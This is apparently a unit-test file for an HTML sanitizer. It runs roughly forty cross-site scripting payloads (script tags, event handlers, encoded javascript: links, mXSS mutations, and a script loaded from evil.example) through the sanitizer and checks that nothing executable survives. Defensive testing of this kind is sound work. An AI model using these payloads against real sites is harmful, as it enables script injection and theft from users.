import { sanitizeHtml } from '../../src/shared/lib/sanitize-html';

/** Elements that run code, load documents or change where the page points. */
const DANGEROUS_TAGS = [
  'script',
  'iframe',
  'frame',
  'object',
  'embed',
  'form',
  'input',
  'button',
  'base',
  'meta',
  'link',
  'style',
  'svg',
  'math',
  'noscript',
  'template',
];
const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'background', 'poster', 'srcdoc'];

/** Parses sanitized output the way the screen does (innerHTML) and lists everything executable. */
function executableParts(html: string): string[] {
  const host = document.createElement('div');
  host.innerHTML = html;
  const found: string[] = [];
  for (const element of Array.from(host.querySelectorAll('*'))) {
    const tag = element.tagName.toLowerCase();
    if (DANGEROUS_TAGS.includes(tag)) found.push(`<${tag}>`);
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      // Browsers drop control characters and spaces inside a scheme: compare without them.
      const value = Array.from(attribute.value)
        .filter((char) => char.charCodeAt(0) > 0x20 && char.charCodeAt(0) !== 0x7f)
        .join('')
        .toLowerCase();
      if (name.startsWith('on')) found.push(`${tag}[${name}]`);
      if (name === 'style') found.push(`${tag}[style]`);
      // An image never runs script, even an SVG one: a data:image URL in <img src> is inert.
      const inertImage = tag === 'img' && name === 'src' && value.startsWith('data:image/');
      if (URL_ATTRIBUTES.includes(name) && /^(javascript|data|vbscript):/.test(value) && !inertImage) {
        found.push(`${tag}[${name}=${value}]`);
      }
    }
  }
  if (/<\s*script/i.test(html)) found.push('literal <script');
  return found;
}

const payloads: [name: string, html: string][] = [
  ['a script tag', '<script>alert(1)</script><p>kept</p>'],
  ['an upper-case script with a src', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['a script split around a nested script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror, unclosed tag', '<img src="x" onerror="alert(1)"'],
  ['img with a javascript: src in mixed case', "<IMG SRC=JaVaScRiPt:alert('XSS')>"],
  ['svg onload', '<svg onload=alert(1)><circle r="1"></circle></svg>'],
  ['script inside svg', '<svg><script>alert(1)</script></svg>'],
  ['svg link with xlink:href javascript:', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['body onload', '<body onload=alert(1)>text</body>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>x</summary>y</details>'],
  ['div with onclick and onmouseover', '<div onclick="alert(1)" onmouseover="alert(1)">hover</div>'],
  ['video source onerror', '<video><source onerror=alert(1)></video>'],
  ['input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
  ['a javascript: link', '<a href="javascript:alert(1)">click</a>'],
  ['a mixed-case javascript: link', '<a href="JaVaScRiPt:alert(1)">click</a>'],
  ['a javascript: link with leading spaces', '<a href="  javascript:alert(1)">click</a>'],
  ['a javascript: link with a tab entity', '<a href="jav&#x09;ascript:alert(1)">click</a>'],
  ['a javascript: link with a newline entity', '<a href="jav&#x0A;ascript:alert(1)">click</a>'],
  [
    'a javascript: link spelled in decimal entities',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  ],
  [
    'a javascript: link in hex entities without semicolons',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  ],
  ['a data: text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>'],
  ['a vbscript: link', '<a href="vbscript:msgbox(1)">vb</a>'],
  [
    'an img with a data: svg and onload',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" onload=alert(1)>',
  ],
  ['a data: html link in an image map', '<map name="m"><area href="data:text/html,<script>alert(1)</script>"></map>'],
  ['an iframe with a javascript: src', '<iframe src="javascript:alert(1)"></iframe>'],
  ['an iframe with srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object and embed', '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'],
  ['math with a javascript: href', '<math href="javascript:alert(1)"><mi>x</mi></math>'],
  ['math/style mutation (mXSS)', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['noscript attribute mutation (mXSS)', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['style attribute with url(javascript:)', '<p style="background:url(javascript:alert(1))">styled</p>'],
  ['style attribute with expression()', '<div style="width: expression(alert(1))">old IE</div>'],
  ['a style element importing javascript:', "<style>@import 'javascript:alert(1)';</style><p>x</p>"],
  ['a form with a javascript: action', '<form action="javascript:alert(1)"><button>go</button></form>'],
  ['a button with formaction', '<button formaction="javascript:alert(1)">go</button>'],
  ['meta refresh to javascript:', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="javascript:alert(1)//"><a href="page">relative</a>'],
  ['link stylesheet', '<link rel="stylesheet" href="javascript:alert(1)">'],
  ['template holding a script', '<template><script>alert(1)</script></template>'],
  ['an unclosed anchor with an event handler', '<a href="https://example.com" onmouseover=alert(1)>unclosed'],
];

describe('sanitizeHtml', () => {
  it('has at least 20 hostile payloads to check', () => {
    expect(payloads.length).toBeGreaterThanOrEqual(20);
  });

  it.each(payloads)('leaves nothing executable from %s', (_name, html) => {
    const output = sanitizeHtml(html);
    expect(executableParts(output)).toEqual([]);
  });

  it('would notice the payloads left as they are (the check can fail)', () => {
    for (const html of [
      '<img src=x onerror=alert(1)>',
      '<a href="jav&#x09;ascript:alert(1)">x</a>',
      '<svg><script>alert(1)</script></svg>',
      '<p style="background:url(javascript:alert(1))">x</p>',
      '<form action="javascript:alert(1)"></form>',
    ]) {
      expect(executableParts(html)).not.toEqual([]);
    }
  });

  it('keeps the harmless text around a payload', () => {
    expect(sanitizeHtml('<script>alert(1)</script><p>kept</p>')).toBe('<p>kept</p>');
    expect(sanitizeHtml('<div onclick="alert(1)">hover</div>')).toBe('<div>hover</div>');
    expect(sanitizeHtml('<a href="javascript:alert(1)">click</a>')).toBe('<a>click</a>');
  });

  it('keeps ordinary formatting: headings, lists, emphasis, tables', () => {
    const html =
      '<h2>Terms</h2><ol><li><strong>One</strong></li><li><em>Two</em></li></ol>' +
      '<table><thead><tr><th>A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>';
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('keeps https links and opens them in a new tab without access to this page', () => {
    const host = document.createElement('div');
    host.innerHTML = sanitizeHtml('<a href="https://example.com/help">Help</a>');
    const link = host.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://example.com/help');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('returns an empty string for no content', () => {
    expect(sanitizeHtml(null)).toBe('');
    expect(sanitizeHtml(undefined)).toBe('');
    expect(sanitizeHtml('')).toBe('');
  });
});
